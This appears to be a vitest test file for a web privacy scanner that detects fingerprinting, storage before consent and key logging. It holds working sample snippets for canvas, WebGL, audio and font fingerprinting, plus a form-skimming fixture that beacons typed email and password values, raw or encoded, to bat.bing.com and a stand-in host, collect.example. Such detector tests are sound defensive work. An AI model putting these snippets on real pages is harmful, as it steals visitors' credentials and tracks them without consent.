import { afterAll, beforeAll, expect, test } from "vitest";
import { type TestScans, testScans } from "./test-scans.ts";

/** What scripts read of a device, keep in a browser, and send of what is typed. */
let scans: TestScans;
beforeAll(async () => {
  scans = await testScans();
}, 60_000);
afterAll(() => scans?.close());

const CANVAS = `const c = document.createElement("canvas"); c.width = 200; c.height = 40; const d = c.getContext("2d");
  d.fillText("Cwm fjordbank glyphs vext quiz", 2, 20); c.toDataURL();`;
const WEBGL = `const g = document.createElement("canvas").getContext("webgl"); if (g) { g.getExtension("WEBGL_debug_renderer_info"); g.getParameter(0x9246); }`;
const AUDIO = `const a = new OfflineAudioContext(1, 4410, 44100); a.createOscillator().connect(a.createDynamicsCompressor()); a.startRendering();`;
const FONTS = `const m = document.createElement("canvas").getContext("2d"); for (let i = 0; i < 60; i++) { m.font = "12px f" + i; m.measureText("mmm"); }`;

const WIDTHS = `const s = document.body.appendChild(document.createElement("span")); s.textContent = "mmm";
  for (let i = 0; i < 60; i++) { s.style.fontFamily = "f" + i; s.offsetWidth; }`;

test("reading a device is told with the script that does it, and what pages do anyway is not", async () => {
  const of = async (script: string) => {
    const { of: found } = await scans.scan({
      "/": `<p>x</p><script src="/read.js"></script>`,
      "/read.js": `{ ${script} }`,
    });
    return found("FINGERPRINTING").map(({ reasons }) => reasons);
  };
  const seen = await Promise.all(
    [
      CANVAS + WEBGL,
      AUDIO,
      FONTS,
      WIDTHS,
      WEBGL,
      CANVAS.replace("c.toDataURL()", ""),
      `new AudioContext().createOscillator()`,
      "[...Array(9)].forEach(() => document.createElement('canvas').toDataURL())",
    ].map(of),
  );
  const by = expect.stringMatching(/^by a script of localhost:\d+$/);
  expect(seen).toEqual([
    [["reads canvas, webgl", by]],
    [["reads audio", by]],
    [["reads fonts", by]],
    [["reads fonts", by]],
    [],
    [],
    [],
    [],
  ]);
}, 90_000);

test("what a frame keeps, a service worker asks for and a script keeps in a database is seen", async () => {
  const { of } = await scans.scan({
    "/": `<iframe src="/inner"></iframe><script>indexedDB.open("mp_1_mixpanel"); navigator.serviceWorker.register("/worker.js")</script>`,
    "/inner": `<script>localStorage.setItem("_cs_id", "x")</script>`,
    "/worker.js": `self.addEventListener("activate", (event) => event.waitUntil(fetch("https://www.google-analytics.com/collect", { mode: "no-cors" }).catch(() => {})));`,
  });
  const entries = of("STORAGE_BEFORE_CONSENT");
  expect(entries.map(({ location, reasons }) => [location.cookie, reasons[1]]).sort()).toEqual([
    ["_cs_id", "localStorage"],
    ["mp_1_mixpanel", "IndexedDB"],
  ]);
  expect(of("TRACKER_BEFORE_CONSENT")[0]?.reasons).toEqual([
    "Google Analytics: analytics, United States",
    "asked for as service worker",
    expect.stringMatching(/^by localhost:\d+$/),
  ]);
}, 60_000);

/** Sends each field on as it is typed, the way that `as` says. */
const LISTEN = (to: string, as: string) => `<script>
  const send = async (value) => { const sent = await (${as})(value); navigator.sendBeacon("${to}", "v=" + sent); };
  for (const field of document.querySelectorAll("input, textarea")) field.addEventListener("blur", () => send(field.value));
  // The visitor sends nothing, whatever a script does.
  document.querySelector("form")?.addEventListener("input", () => document.querySelector("form").submit());
</script>`;
const SHA256 = `async (value) => [...new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(value)))].map((b) => b.toString(16).padStart(2, "0")).join("")`;
const FORM = `<form action="/sent" method="post"><input type="email" name="mail"><input type="search" name="q"><input type="password" name="p"></form>`;

test("typed text that goes to others is told, how it went, and nothing is submitted", async () => {
  let submitted = 0;
  const pages = (to: string, as: string) => ({
    "/": FORM + LISTEN(to, as),
    "/own": "",
    "/sent": (_: unknown, response: { end(): void }) => {
      submitted++;
      response.end();
    },
  });
  const [plain, hashed, encoded, own] = await Promise.all(
    [
      pages("https://bat.bing.com/e", "(value) => value"),
      pages("https://collect.example/e", SHA256),
      pages("https://collect.example/e", "(value) => btoa('xx' + value)"),
      pages("/own", "(value) => value"),
    ].map((site) => scans.scan(site)),
  );
  const formsOf = (scan: typeof plain) =>
    scan
      ?.of("KEY_LOGGING")
      .map(({ reasons }) => reasons.slice(0, 2))
      .sort();
  const went = (who: string, form: string) =>
    ["email", "password"].map((field) => [
      who,
      `what was typed in a field of type ${field} went along ${form}`,
    ]);
  expect(formsOf(plain)).toEqual(went("Bing Ads: ad, United States", "as it is"));
  expect(formsOf(hashed)).toEqual(went("sent to collect.example", "as SHA-256"));
  expect(formsOf(encoded)).toEqual(went("sent to collect.example", "as base64"));
  expect(formsOf(own)).toEqual([]);
  expect(submitted).toBe(0);
}, 90_000);
